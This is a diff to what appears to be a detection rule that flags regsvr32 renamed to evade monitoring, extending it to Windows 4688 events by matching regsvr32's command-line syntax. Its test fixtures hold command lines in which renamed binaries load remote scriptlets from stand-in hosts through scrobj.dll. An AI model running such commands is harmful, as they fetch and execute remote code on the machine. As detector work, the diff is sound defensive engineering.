@@ -456,9 +456,12 @@ def any_child(ev):
       actor(PROCESS), risk=80, family="renamed_or_relocated_binary", evidence="identity",
       techniques=(T, "T1036.003"), sources=("L18", "Splunk 7349a9e9", "Sigma 0ba1da6d", "Elastic EP b0207677"),
       description=("The file is regsvr32 (OriginalFileName REGSVR32.EXE, or the file description "
-                   "'Microsoft(C) Register Server' where Sysmon logs no OriginalFileName) but it runs under "
-                   "another name."),
+                   "'Microsoft(C) Register Server' where Sysmon logs no OriginalFileName, or, where the log "
+                   "has neither (4688), a command line only regsvr32 takes: a remote /i: scriptlet or "
+                   "scrobj.dll with /i:) but it runs under another name."),
       positives=(
+        {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe", "Image": None,
+         "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll"},
         {"Image": "C:\\Users\\Public\\svc.exe", "CommandLine": "svc.exe /s /u /i:http://example.com/a.sct scrobj.dll", "OriginalFileName": "REGSVR32.EXE"},
         {"Image": "C:\\ProgramData\\jabber.exe", "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll", "Description": "Microsoft(C) Register Server"},),
       negatives=(
@@ -469,8 +472,10 @@ def renamed_binary(ev):
         return None
     if ev.original_file_name.lower() == REGSVR32:
         evidence = "OriginalFileName %s" % ev.original_file_name
-    else:
+    elif ev.description:
         evidence = "file description '%s'" % ev.description
+    else:
+        evidence = "its command line is regsvr32's: %s" % _clip(ev.command_line, 120)
     return "regsvr32 runs under the name %s (%s)" % (ev.image or ev.image_name, evidence)
 
 
